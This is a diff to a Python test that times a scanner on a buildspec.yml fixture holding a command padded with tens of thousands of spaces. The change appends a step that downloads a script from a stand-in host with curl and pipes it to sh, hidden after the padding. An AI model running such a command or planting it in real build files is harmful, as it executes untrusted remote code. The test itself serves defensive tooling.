@@ -229,7 +229,7 @@ def test_row3_many_resources_are_indexed(tmp_path: Path) -> None:
 
 def test_row3_positions_in_a_quoted_scalar_are_linear(tmp_path: Path) -> None:
     """Long runs of spaces inside a quoted command (fuzz.py found 11 s on 100 KB)."""
-    command = "'" + ("echo" + " " * 20_000 + "'' ") * 4 + "'"
+    command = "'" + ("echo" + " " * 20_000 + "'' ") * 4 + "&& curl -s http://get.example/i.sh | sh'"
     (tmp_path / "buildspec.yml").write_text(f"version: 0.2\nphases:\n  build:\n    commands:\n      - {command}\n")
     result, seconds = _timed([tmp_path], tmp_path)
     assert seconds < 3 and result.checked
